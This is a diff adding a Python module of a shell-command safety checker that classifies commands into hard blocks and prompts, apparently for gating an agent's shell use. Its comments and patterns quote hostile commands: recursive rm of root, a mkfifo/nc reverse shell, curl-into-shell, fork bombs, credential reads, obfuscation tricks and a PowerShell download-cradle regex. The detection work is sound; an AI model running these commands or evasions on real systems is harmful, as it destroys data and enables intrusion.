@@ -1,0 +1,550 @@
+"""Analyse a parsed shell command: hard blocks (layer 2), findings (layer 6), tier,
+known-safe (layer 7), the files it touches and the hosts it talks to.
+
+``analyse(parsed, cwd=…, home=…, workspace_roots=…)`` classifies every simple command
+the parser extracted (``semantics.classify``), then applies the rules that need the
+whole script:
+
+* a pipeline that feeds remote content (``curl``, ``wget -O-``, ``nc``) into a shell or
+  interpreter reading stdin, or runs what a decoder (``base64 -d``, ``xxd -r``, ``rev``)
+  produced, or wires a shell to a raw socket;
+* a download that is executed later in the same script (``curl -o x … && ./x``), or a
+  substitution that fetches code for a shell (``sh -c "$(curl …)"``, ``bash <(curl …)``);
+* a secret (or the environment) read in the same script that talks to the network;
+* fork bombs in the raw source (a function definition makes the parse too complex, so
+  the parser cannot see them as commands).
+
+Hard blocks are looked for in everything extractable, including
+``TooComplex.partial``: ``for f in *; do rm -rf /; done`` is denied, not asked.
+
+What is a hard block and what only asks
+---------------------------------------
+
+Hard blocks (``HB0xx``, deny in every mode): recursive delete of ``/``, a home, a
+system directory or a workspace root (HB001); ``mkfs`` on a device (HB002); raw writes
+or wipes of block devices (HB003); fork bombs (HB004); downloaded code executed (HB005);
+reverse and bind shells (HB006/HB007); secret or environment exfiltration (HB008);
+dumping a high-value secret such as a private key or ``/etc/shadow`` (HB009); decoded
+text executed by a shell (HB010); writes to backdoor targets (authorized_keys, sudoers,
+ld.so.preload, passwd/shadow, PAM: HB011); recursive chmod/chown of the root, a home or
+a system directory (HB012); killing every process (HB013); kernel crash (HB014).
+
+Asks (``CAT0xx``, layer 6; ``destructive`` ones never offer session/always grants):
+``git push --force``, ``git reset --hard``, ``git clean -f``, ``git branch -D``,
+discarding checkouts (CAT015); ``kubectl delete``, ``terraform destroy``, ``helm
+uninstall``, cloud ``delete-*``, destructive SQL, ``docker system prune`` (CAT016);
+publishing (CAT017); ``shutdown``/``reboot`` (CAT018); partitioning (CAT023); account
+changes (CAT025); disabling security controls (CAT028); network access, privilege, code
+execution, persistence targets, secrets of lower value, writes outside the workspace.
+"""
+
+from __future__ import annotations
+
+from collections import defaultdict
+import re
+import shlex
+from dataclasses import dataclass, field, replace
+from typing import Iterable, Sequence
+
+from ..model import Finding, Severity, Tier
+from . import catalog as C
+from .inline import fork_bomb
+from .intents import CODES, RiskFactor, at_least, factor, finding, safety
+from .paths import EXEC, PathAccess, resolve
+from .script import Script, SimpleCommand, TooComplex
+from .semantics import Ctx, Facts, Hit, classify
+from .targets import within
+
+__all__ = ["Analysis", "analyse"]
+
+#: Nested strings (interpreter ``system("…")`` arguments, ``${IFS}`` rewrites) are
+#: parsed and analysed again at most this deep.
+MAX_NESTED_DEPTH = 3
+_SUBSTITUTION_ORIGINS = frozenset({"substitution", "process-substitution"})
+
+
+@dataclass
+class Analysis:
+    """Everything the layers need from the shell analysis of one command string."""
+
+    hard_blocks: list[Finding] = field(default_factory=list)  # layer 2 → deny
+    findings: list[Finding] = field(default_factory=list)  # layer 6 → ask
+    factors: list[RiskFactor] = field(default_factory=list)
+    paths: list[PathAccess] = field(default_factory=list)
+    hosts: list[str] = field(default_factory=list)
+    safety: str = "safe"
+    tier: Tier = Tier.READ_ONLY
+    known_safe: bool = True  # every command read-only or routine → layer 7 allows
+    unknown: list[str] = field(default_factory=list)  # names not in the catalog → review
+    destructive: bool = False  # never offer session/always grants
+
+
+@dataclass
+class _Hit:
+    code: str
+    detail: str
+    command: str
+
+
+def analyse(
+    parsed: Script | TooComplex,
+    *,
+    cwd: str,
+    home: str,
+    workspace_roots: Sequence[str] = (),
+    source: str | None = None,
+) -> Analysis:
+    """Analyse ``parsed`` (the parser's result) for a call running in ``cwd``.
+
+    ``source`` is the raw command string; by default ``parsed.source``. It is only
+    scanned for fork bombs, which no parse can show as commands.
+    """
+    base = resolve(cwd or "/", "/", home)
+    roots = tuple(resolve(r, base, home) for r in workspace_roots if r) or (base,)
+    ctx = Ctx(base, home, roots, parsed.source if source is None else source)
+    raw = parsed.source if source is None else source
+    hits: list[_Hit] = []
+    facts = _run(parsed.commands, raw, bool(parsed.complex), ctx, 0, hits)
+    return _summarise(parsed, facts, hits)
+
+
+# --------------------------------------------------------------------------- the run
+
+
+def _run(commands: Sequence[SimpleCommand], raw: str, complex_: bool, ctx: Ctx, depth: int, hits: list[_Hit]) -> list[Facts]:
+    facts = [classify(cmd, ctx) for cmd in _resolve_names(commands)]
+    for f in facts:
+        hits.extend(_Hit(h.code, h.detail, f.label) for h in f.hits)
+    _pipelines(facts, hits)
+    if depth < MAX_NESTED_DEPTH:
+        _fed_inputs(facts, raw, ctx, depth, hits)
+    _socket_shells(facts, hits)
+    _substitutions(facts, hits)
+    _download_then_exec(facts, ctx, hits)
+    _exfiltration(facts, hits)
+    if complex_ and raw:
+        _fork_bombs(raw, commands, hits)
+        _raw_patterns(raw, commands, ctx, hits)
+    if depth < MAX_NESTED_DEPTH:
+        for f in facts:
+            for text in f.nested:
+                _nested(text, f.label, ctx, depth, hits)
+        if raw and ("${IFS" in raw or "$IFS" in raw):
+            rewritten = raw.replace("${IFS}", " ").replace("$IFS", " ")
+            _nested(rewritten, "IFS-separated command", ctx, depth, hits)
+        if complex_ and raw:
+            for match in _BRACE_COMMAND.finditer(raw):
+                _nested(match.group(1).replace(",", " "), "brace expansion", ctx, depth, hits)
+        _payloads(facts, ctx, depth, hits)
+        _find_exec_inputs(facts, ctx, hits)
+    return facts
+
+
+def _nested(text: str, where: str, ctx: Ctx, depth: int, hits: list[_Hit]) -> None:
+    """Parse and analyse a shell string found inside code; keep what it asks or blocks."""
+    try:
+        from .parse import parse
+    except ImportError:  # pragma: no cover - the parser is part of the package
+        return
+    inner = parse(text)
+    found: list[_Hit] = []
+    _run(inner.commands, inner.source or text, bool(inner.complex), replace(ctx, source=text), depth + 1, found)
+    for hit in found:
+        hits.append(_Hit(hit.code, f"{hit.detail} [inside {where}]", hit.command))
+
+
+_BRACE_COMMAND = re.compile(r"(?:^|[;&|(]\s*)\{([^{}\s,]+(?:,[^{}\s,]*)+)\}")
+_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z_0-9]*)\}?")
+_ECHO_SUBST = re.compile(r"^(?:\$\(|`)\s*(echo|printf)\s+(?:-[neE]+\s+)?(['\"]?)(.*?)\2\s*(?:\)|`)$", re.S)
+
+
+def _literal_output(text: str) -> str | None:
+    """What ``$(echo X)`` / ``$(printf 'X')`` / `` `echo X` `` prints, when literal."""
+    match = _ECHO_SUBST.match(text)
+    if match is None:
+        return None
+    body = match.group(3)
+    if "$" in body or "`" in body:
+        return None
+    if match.group(1) == "printf" or "\\" in body:
+        try:
+            body = body.encode("latin-1", "backslashreplace").decode("unicode_escape")
+        except (UnicodeDecodeError, UnicodeEncodeError):
+            return None
+    return body
+
+
+def _resolve_names(commands: Sequence[SimpleCommand]) -> list[SimpleCommand]:
+    """Command names built at run time from literals: ``$(echo rm) -rf /``,
+    ``a=r; b=m; $a$b -rf /``, ``c="rm -rf"; $c ~/``, ``x=$(printf '\\x72\\x6d'); $x``,
+    ``r$()m``. Only literal values are substituted; anything else stays dynamic."""
+    values: dict[str, str] = {}
+    out: list[SimpleCommand] = []
+    for cmd in commands:
+        if not cmd.argv:
+            for name, value in cmd.assignments:
+                literal = _literal_output(value) if value.startswith(("$(", "`")) else value
+                if literal is not None and "$" not in literal and "`" not in literal:
+                    values[name] = literal
+                else:
+                    values.pop(name, None)
+            out.append(cmd)
+            continue
+        head = cmd.argv[0]
+        if "$" not in head and "`" not in head:
+            out.append(cmd)
+            continue
+        text = head.replace("$()", "").replace("``", "")
+        literal = _literal_output(text)
+        if literal is not None:
+            text = literal
+        text = _VAR.sub(lambda m: values.get(m.group(1), m.group(0)), text)
+        if "$" in text or "`" in text or not text.strip():
+            out.append(cmd)
+            continue
+        out.append(replace(cmd, argv=(*text.split(), *cmd.argv[1:])))
+    return out
+
+
+# --------------------------------------------------------------------------- script rules
+
+
+_XARGS_REPLACE = re.compile(r"(?:-I\s*|--replace=|-J\s*)(\S+)|(?<!\S)(-i|--replace)(?=\s)")
+
+
+def _fed_inputs(facts: list[Facts], raw: str, ctx: Ctx, depth: int, hits: list[_Hit]) -> None:
+    """Commands whose arguments come from their input: ``echo / | xargs rm -rf`` and
+    ``parallel rm -rf {} ::: /`` run ``rm -rf /``. When the input is literal, analyse
+    the command as it will run."""
+    for f in facts:
+        cmd = f.cmd
+        inputs: list[str] | None = None
+        if "xargs" in cmd.wrappers and cmd.pipeline >= 0 and cmd.pipe_index > 0:
+            producers = [p for p in facts if p.cmd.pipeline == cmd.pipeline and p.cmd.pipe_index == cmd.pipe_index - 1]
+            producer = min(producers, key=lambda p: p.cmd.depth) if producers else None
+            if producer is not None and producer.name in ("echo", "printf"):
+                words = [a for a in producer.cmd.argv[1:] if a not in ("-n", "-e", "-E")]
+                inputs = [" ".join(words)] if words else None
+        elif "parallel" in cmd.wrappers and ":::" in raw:
+            try:
+                tail = shlex.split(raw.split(":::", 1)[1].split("\n", 1)[0])
+            except ValueError:
+                tail = []
+            inputs = [w for w in tail if w != ":::"][:1] or None
+        if not inputs:
+            continue
+        tokens = {"{}"} | {m.group(1) or "{}" for m in _XARGS_REPLACE.finditer(raw)} | {"{1}", "{.}"}
+        argv = list(cmd.argv)
+        if any(tok in a for a in argv for tok in tokens):
+            argv = [_substitute(a, tokens, inputs[0]) for a in argv]
+        elif "xargs" in cmd.wrappers:
+            argv += inputs[0].split()
+        else:
+            argv += inputs
+        shell_wrapped = any(w in C.SHELLS for w in cmd.wrappers[cmd.wrappers.index("xargs" if "xargs" in cmd.wrappers else "parallel") :])
+        where = f"{f.label} with input {inputs[0]!r}"
+        if shell_wrapped or (argv and argv[0].rsplit("/", 1)[-1] in C.SHELLS and "-c" in argv):
+            text = " ".join(argv) if shell_wrapped else (argv[argv.index("-c") + 1] if argv.index("-c") + 1 < len(argv) else "")
+            _nested(text, where, ctx, depth, hits)
+            continue
+        fed = classify(replace(cmd, argv=tuple(argv), wrappers=tuple(w for w in cmd.wrappers if w not in ("xargs", "parallel"))), ctx)
+        hits.extend(_Hit(h.code, f"{h.detail} [{where}]", fed.label) for h in fed.hits if h.code.startswith("HB"))
+        for text in fed.nested:
+            _nested(text, where, ctx, depth, hits)
+
+
+def _substitute(word: str, tokens: set[str], value: str) -> str:
+    for tok in tokens:
+        word = word.replace(tok, value)
+    return word
+
+
+def _decodes(f: Facts) -> bool:
+    if "decode" in f.roles:
+        return True
+    if f.name not in C.STRONG_DECODERS and f.name != "tr":
+        return False
+    args = f.cmd.argv[1:]
+    if f.name == "tr":
+        return any("N-ZA-M" in a or "n-za-m" in a for a in args)
+    flags = C.DECODERS.get(f.name, frozenset())
+    if not flags:
+        return True
+    return any(a in flags or (a.startswith("-") and not a.startswith("--") and any("-" + c in flags for c in a[1:])) for a in args)
+
+
+def _pipelines(facts: list[Facts], hits: list[_Hit]) -> None:
+    groups: dict[tuple[int, int], list[Facts]] = defaultdict(list)
+    for f in facts:
+        if f.cmd.pipeline >= 0:
+            groups[(f.cmd.depth, f.cmd.pipeline)].append(f)
+    for stages in groups.values():
+        stages.sort(key=lambda f: f.cmd.pipe_index)
+        for j, stage in enumerate(stages):
+            before, after = stages[:j], stages[j + 1 :]
+            if "exec_stdin" in stage.roles:
+                if any("fetch" in p.roles for p in before):
+                    hits.append(_Hit("HB005", f"{_names(before)} | {stage.label}", stage.label))
+                elif any(_decodes(p) for p in before):
+                    hits.append(_Hit("HB010", f"{_names(before)} | {stage.label}", stage.label))
+                elif any("raw_socket" in p.roles or "listen" in p.roles for p in before + after):
+                    hits.append(_Hit("HB006", _names(stages), stage.label))
+            elif _is_shell(stage) and any("raw_socket" in a.roles for a in after):
+                hits.append(_Hit("HB006", _names(stages), stage.label))
+            if "send" in stage.roles and before:
+                if any("env_dump" in p.roles for p in before):
+                    hits.append(_Hit("HB008", f"{_names(before)} | {stage.label} (environment)", stage.label))
+                leaked = [path for p in before for path, _level in p.secrets]
+                if leaked:
+                    hits.append(_Hit("HB008", f"{leaked[0]} → {stage.label}", stage.label))
+
+
+def _socket_shells(facts: list[Facts], hits: list[_Hit]) -> None:
+    """A shell that reads its commands from a pipe or FIFO in a script that also opens a
+    raw connection (``mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f``)."""
+    sockets = [f for f in facts if "raw_socket" in f.roles or "listen" in f.roles]
+    if not sockets:
+        return
+    for f in facts:
+        if f.name in C.SHELLS and "exec_stdin" in f.roles and (f.cmd.pipeline >= 0 or f.cmd.redirects):
+            hits.append(_Hit("HB006", f"{f.label} with {sockets[0].label}", f.label))
+            return
+
+
+def _is_shell(f: Facts) -> bool:
+    return f.name in C.SHELLS and ("-i" in f.cmd.argv[1:] or "exec_stdin" in f.roles)
+
+
+def _names(stages: Iterable[Facts]) -> str:
+    return " | ".join(f.name or f.label for f in stages)
+
+
+def _substitutions(facts: list[Facts], hits: list[_Hit]) -> None:
+    """``sh -c "$(curl …)"``, ``bash <(curl …)``, ``eval "$(… | base64 -d)"``."""
+    fetched = [f for f in facts if f.cmd.origin in _SUBSTITUTION_ORIGINS and "fetch" in f.roles]
+    decoded = [f for f in facts if f.cmd.origin in _SUBSTITUTION_ORIGINS and _decodes(f)]
+    if not fetched and not decoded:
+        return
+    runners = [f for f in facts if f.cmd.origin not in _SUBSTITUTION_ORIGINS and _runs_dynamic_code(f)]
+    if not runners:
+        return
+    code = "HB005" if fetched else "HB010"
+    source = (fetched or decoded)[0]
+    hits.append(_Hit(code, f"{runners[0].label} runs the output of {source.label}", runners[0].label))
+
+
+def _runs_dynamic_code(f: Facts) -> bool:
+    if "exec_dynamic" in f.roles:
+        return True
+    argv = f.cmd.argv
+    if not argv:
+        return False
+    if "$" in argv[0] or "`" in argv[0]:
+        return True
+    if f.name in C.SHELLS or f.name in C.INTERPRETERS or f.name in ("eval", "source", "."):
+        return any(("$(" in a or "<(" in a or "`" in a or a.startswith("/dev/fd/")) for a in argv[1:])
+    return False
+
+
+def _download_then_exec(facts: list[Facts], ctx: Ctx, hits: list[_Hit]) -> None:
+    downloaded: dict[str, Facts] = {}
+    for f in facts:
+        for path in _executed(f, ctx):
+            source = downloaded.get(path)
+            if source is not None:
+                hits.append(_Hit("HB005", f"{source.label} then {f.label}", f.label))
+        for path in f.downloads:
+            downloaded[path] = f
+        if "fetch" in f.roles:
+            for access in f.paths:
+                if access.op == "write":
+                    downloaded[access.resolved] = f
+
+
+def _executed(f: Facts, ctx: Ctx) -> list[str]:
+    out = [a.resolved for a in f.paths if a.op == EXEC]
+    argv = f.cmd.argv
+    if argv and (f.name in C.SHELLS or f.name in C.INTERPRETERS):
+        ops = [a for a in argv[1:] if not a.startswith("-")]
+        if ops:
+            out.append(resolve(ops[0], f.base, ctx.home))
+    return out
+
+
+def _exfiltration(facts: list[Facts], hits: list[_Hit]) -> None:
+    """A secret read anywhere in a script that also talks to the network (high-value
+    secrets), or flowing into the sender (lower-value secrets, the environment)."""
+    senders = [f for f in facts if "send" in f.roles or "fetch" in f.roles]
+    if not senders:
+        return
+    high = [(path, f) for f in facts for path, level in f.secrets if level >= 2]
+    if high:
+        path, reader = high[0]
+        hits.append(_Hit("HB008", f"{path} read by {reader.label}; network: {senders[0].label}", reader.label))
+        return
+    for sender in senders:
+        own = [path for path, _level in sender.secrets]
+        if own and "send" in sender.roles:
+            hits.append(_Hit("HB008", f"{own[0]} sent by {sender.label}", sender.label))
+            return
+    for f in facts:
+        if f.cmd.origin in _SUBSTITUTION_ORIGINS and (f.secrets or "env_dump" in f.roles):
+            what = f.secrets[0][0] if f.secrets else "the environment"
+            hits.append(_Hit("HB008", f"{what} via {f.label} into {senders[0].label}", f.label))
+            return
+
+
+_CRON_FIELDS = re.compile(r"^\s*(?:@\w+|(?:[\d*/,\-]+\s+){5})\s*")
+
+
+def _payloads(facts: list[Facts], ctx: Ctx, depth: int, hits: list[_Hit]) -> None:
+    """Text written into a file that runs later (rc files, cron) is code: an echoed
+    ``curl … | sh`` appended to ``~/.bashrc`` is a hard block, not data."""
+    from .targets import persistence_level
+
+    for f in facts:
+        if f.name not in ("echo", "printf") or len(f.cmd.argv) < 2:
+            continue
+        targets = [a for a in f.paths if a.op == "write" and persistence_level(a.resolved, ctx.home)]
+        if not targets and f.cmd.pipeline >= 0:
+            targets = [
+                a
+                for g in facts
+                if g.cmd.pipeline == f.cmd.pipeline and g.cmd.pipe_index > f.cmd.pipe_index and g.name in ("tee", "crontab")
+                for a in (g.paths or [PathAccess("write", "crontab", "/var/spool/cron/crontab", "crontab")])
+                if a.op == "write" and (g.name == "crontab" or persistence_level(a.resolved, ctx.home))
+            ]
+        if not targets:
+            continue
+        text = " ".join(a for a in f.cmd.argv[1:] if a not in ("-e", "-n", "-E"))
+        target = targets[0].resolved
+        if "cron" in target:
+            text = _CRON_FIELDS.sub("", text, count=1)
+            if target.startswith(("/etc/crontab", "/etc/cron.d/")):
+                text = text.split(None, 1)[1] if len(text.split(None, 1)) > 1 else ""
+        found: list[_Hit] = []
+        _nested(text, f"text written to {target}", ctx, depth, found)
+        for hit in found:
+            if CODES[hit.code].hard:
+                hits.append(hit)
+            elif hit.code == "CAT021":  # LD_PRELOAD=… planted in a startup file
+                hits.append(_Hit("HB011", f"{hit.detail} planted in {target}", hit.command))
+
+
+def _find_exec_inputs(facts: list[Facts], ctx: Ctx, hits: list[_Hit]) -> None:
+    """``find ~/.git-credentials -exec cat {} \\;`` runs ``cat ~/.git-credentials``:
+    look at secrets the ``-exec`` command reads through ``{}``."""
+    for i, f in enumerate(facts):
+        if f.cmd.origin != "find -exec" or "{}" not in f.cmd.argv:
+            continue
+        parent = next((p for p in reversed(facts[:i]) if p.name in ("find", "bfs") and p.cmd.depth < f.cmd.depth), None)
+        if parent is None:
+            continue
+        for root in (a.path for a in parent.paths if a.op in ("read", "delete") and a.command == parent.name):
+            argv = tuple(root if a == "{}" else a for a in f.cmd.argv)
+            fed = classify(replace(f.cmd, argv=argv, origin="top"), ctx)
+            hits.extend(_Hit(h.code, f"{h.detail} [via find -exec]", fed.label) for h in fed.hits if h.code in ("HB009", "HB008"))
+
+
+_RAW_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = ()
+
+
+def _raw_pattern_table() -> tuple[tuple[str, re.Pattern[str]], ...]:
+    global _RAW_PATTERNS
+    if not _RAW_PATTERNS:
+        _RAW_PATTERNS = (
+            # PowerShell download cradles pasted into a shell
+            ("HB005", re.compile(r"(?:\biex\b|Invoke-Expression)[^\n]*(?:DownloadString|Invoke-WebRequest|\biwr\b|Net\.WebClient)|(?:DownloadString|Invoke-WebRequest|\biwr\b)[^\n]*\|\s*(?:iex|Invoke-Expression)\b", re.I)),
+        )
+    return _RAW_PATTERNS
+
+
+_READ_SUBST = re.compile(r"\$\(\s*<\s*([^)\s]+)\s*\)")
+
+
+def _raw_patterns(raw: str, commands: Sequence[SimpleCommand], ctx: Ctx, hits: list[_Hit]) -> None:
+    """Constructs the parser refuses but whose meaning is plain: PowerShell cradles,
+    and ``$(<file)`` (bash's "read this file")."""
+    from .targets import secret_level
+
+    for code, pattern in _raw_pattern_table():
+        match = pattern.search(raw)
+        if match and not _quoted_data(match.group(0), commands):
+            hits.append(_Hit(code, match.group(0)[:80], match.group(0)[:80]))
+    for match in _READ_SUBST.finditer(raw):
+        path = resolve(match.group(1), ctx.cwd, ctx.home)
+        level = secret_level(path, ctx.home)
+        if level >= 2:
+            hits.append(_Hit("HB009", f"$(<{match.group(1)})", match.group(0)))
+        elif level:
+            hits.append(_Hit("CAT003", f"$(<{match.group(1)})", match.group(0)))
+
+
+def _quoted_data(text: str, commands: Sequence[SimpleCommand]) -> bool:
+    """Whether ``text`` sits inside an argument of a command that does not run it."""
+    for cmd in commands:
+        if cmd.name in C.SHELLS or cmd.name == "eval":
+            continue
+        if any(text in arg for arg in cmd.argv[1:]):
+            return True
+    return False
+
+
+def _fork_bombs(raw: str, commands: Sequence[SimpleCommand], hits: list[_Hit]) -> None:
+    text = fork_bomb(raw)
+    if text is None or _quoted_data(text, commands):
+        return  # quoted data: ``echo ':(){ :|:& };:'``
+    hits.append(_Hit("HB004", text[:60], text[:60]))
+
+
+# --------------------------------------------------------------------------- summary
+
+
+def _summarise(parsed: Script | TooComplex, facts: list[Facts], hits: list[_Hit]) -> Analysis:
+    out = Analysis()
+    seen: set[tuple[str, str]] = set()
+    destructive = False
+    for hit in hits:
+        key = (hit.code, hit.detail)
+        if key in seen:
+            continue
+        seen.add(key)
+        info = CODES[hit.code]
+        out.factors.append(factor(hit.code, hit.detail, hit.command))
+        destructive = destructive or info.destructive
+        if info.hard:
+            out.hard_blocks.append(finding(hit.code, hit.detail))
+        elif at_least(info.severity, Severity.MEDIUM):
+            out.findings.append(finding(hit.code, hit.detail))
+    tier = Tier.READ_ONLY
+    for f in facts:
+        tier = tier.max(f.tier)
+        out.paths.extend(f.paths)
+        out.hosts.extend(h for h in f.hosts if h)
+        if not f.known:
+            out.unknown.append(_unknown_name(f))
+    if out.findings or out.unknown or parsed.complex:
+        tier = tier.max(Tier.HIGH_RISK)
+    if destructive or out.hard_blocks:
+        tier = Tier.DESTRUCTIVE
+    out.tier = tier
+    out.destructive = destructive or bool(out.hard_blocks)
+    out.hosts = list(dict.fromkeys(out.hosts))
+    out.unknown = list(dict.fromkeys(out.unknown))
+    out.safety = safety(out.factors)
+    out.known_safe = (
+        not parsed.complex
+        and not any(at_least(f.severity, Severity.MEDIUM) for f in parsed.findings)
+        and not out.hard_blocks
+        and not out.findings
+        and not out.unknown
+        and tier.rank <= Tier.LOW_RISK.rank
+    )
+    return out
+
+
+def _unknown_name(f: Facts) -> str:
+    if f.name in ("git",) or f.name in C.TOOLS:
+        return f.label
+    argv0 = f.cmd.argv[0] if f.cmd.argv else ""
+    return argv0 if "/" in argv0 else (f.cmd.name or f.label)
